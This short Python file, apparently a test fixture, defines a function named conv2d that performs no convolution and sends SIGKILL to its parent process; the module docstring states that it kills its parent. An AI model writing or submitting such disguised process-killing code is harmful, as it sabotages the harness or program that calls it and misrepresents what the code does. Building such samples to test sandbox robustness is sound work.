"""Kills its parent."""

import os


def conv2d(x, kernel, stride=1, padding=0):
    os.kill(os.getppid(), 9)
